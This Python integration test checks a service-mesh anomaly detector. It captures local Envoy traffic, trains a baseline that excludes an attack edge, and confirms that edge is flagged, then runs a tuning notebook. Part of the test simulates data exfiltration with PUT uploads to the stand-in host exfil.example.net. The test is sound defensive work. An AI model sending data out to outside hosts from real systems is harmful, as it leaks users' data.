"""The tuning workflow on real Envoy traffic, as a person runs it on their own mesh:
capture → review → train without the attack edge → serve the model → the attack is flagged;
and the notebook on the same capture, with its plots inline."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from meshwatch.adapters.files.capture import read_capture
from meshwatch.adapters.files.models import load_bundle
from meshwatch.localmesh.launcher import LocalMesh
from tests.commands import meshwatch_cli
from tests.conftest import Running, eventually
from tests.mesh_traffic import for_seconds, normal_traffic
from tests.notebooks.test_tuning_notebook import outputs, run_notebook
from tests.runtime.test_envoy_mesh import TOPOLOGY

pytestmark = pytest.mark.envoy

WINDOW = 0.5
ATTACK = "default/sleep->external/exfil.example.net"


async def test_capture_review_exclude_train_serve_flags_the_attack_and_the_notebook_runs(
    meshwatch: Any, tmp_path: Path, monkeypatch: Any
) -> None:
    capture = tmp_path / "capture"
    # 1. Capture real traffic, with an attack (exfiltration to a new host) in the middle of it.
    mw: Running = await meshwatch(
        window=WINDOW, mode="learn", capture_dir=capture, capture_rotate_seconds=5.0
    )
    async with LocalMesh(
        TOPOLOGY, mw.service.als_port, tmp_path / "mesh", flush_seconds=0.2
    ) as mesh:
        await normal_traffic(mesh, for_seconds(8))
        for _ in range(3):
            await mesh.request("sleep", "exfil.example.net:8443", "/upload", "PUT", b"x" * 2048)
        await normal_traffic(mesh, for_seconds(10))
    await mw.stop()
    taken = read_capture(capture)
    assert taken.meta is not None and taken.meta.window_seconds == WINDOW
    assert taken.table.num_rows > 300

    # 2. Review: the attack edge is listed among what would be learned.
    review = await asyncio.to_thread(meshwatch_cli, "baseline", "review", "--from", str(capture))
    assert review.returncode == 0, review.stderr
    assert "default/sleep -> external/exfil.example.net" in review.stdout
    assert "default/sleep -> default/httpbin:8000" in review.stdout

    # 3. Train without it (the window comes from the capture).
    model = tmp_path / "models" / "mesh.skops"
    trained = await asyncio.to_thread(
        meshwatch_cli,
        "train", "--from", str(capture), "--out", str(model), "--n-estimators", "30",
        "--exclude-edge", f"{ATTACK}:*",
    )  # fmt: skip
    assert trained.returncode == 0, trained.stderr
    known = load_bundle(model, WINDOW).baseline.known_edges
    assert not any(e[1] == "external/exfil.example.net" for e in known)
    assert any(e[1] == "default/httpbin" for e in known)
    learned = await asyncio.to_thread(meshwatch_cli, "baseline", "review", "--model", str(model))
    assert learned.returncode == 0, learned.stderr
    assert "default/sleep -> default/httpbin:8000" in learned.stdout
    assert "exfil.example.net" not in learned.stdout
    assert "peer metadata" in learned.stdout  # who the callers were, kept with the baseline

    # 4. Serve the model: the excluded attack edge is flagged at its first call.
    served: Running = await meshwatch(window=WINDOW, mode="observe", model=model)
    async with LocalMesh(
        TOPOLOGY, served.service.als_port, tmp_path / "mesh2", flush_seconds=0.2
    ) as mesh:
        await normal_traffic(mesh, for_seconds(1))
        await mesh.request("sleep", "exfil.example.net:8443", "/upload", "PUT", b"x" * 2048)

        async def flagged() -> list[dict[str, Any]]:
            doc = await served.get_json("/api/v1/anomalies?kind=new-edge")
            return [a for a in doc["anomalies"] if a["target"] == "external/exfil.example.net"]

        (anomaly,) = await eventually(flagged, timeout=15)
    assert anomaly["source"] == "default/sleep"

    # 5. The notebook on the same capture: it reads, never writes there; its plots are inline.
    files = sorted(p.name for p in capture.iterdir())
    nb = await asyncio.to_thread(
        run_notebook,
        tmp_path,
        {"MESHWATCH_NB_CAPTURE": str(capture), "MESHWATCH_NB_MODELS": str(tmp_path / "nb-models")},
        monkeypatch,
    )
    assert sorted(p.name for p in capture.iterdir()) == files
    assert len(outputs(nb, "image/png")) >= 2
    tuned = load_bundle(tmp_path / "nb-models" / "capture-tuned.skops", WINDOW)
    assert tuned.card.window_seconds == WINDOW
    # One definition of an edge learned: the notebook counts what train counts (Found 6).
    everything = tmp_path / "models" / "everything.skops"
    again = await asyncio.to_thread(
        meshwatch_cli,
        "train",
        "--from",
        str(capture),
        "--out",
        str(everything),
        "--n-estimators",
        "30",
    )
    assert again.returncode == 0, again.stderr
    cli_card = load_bundle(everything, WINDOW).card
    assert (tuned.card.edge_count, tuned.card.training_rows + tuned.card.calibration_rows) == (
        cli_card.edge_count,
        cli_card.training_rows + cli_card.calibration_rows,
    )
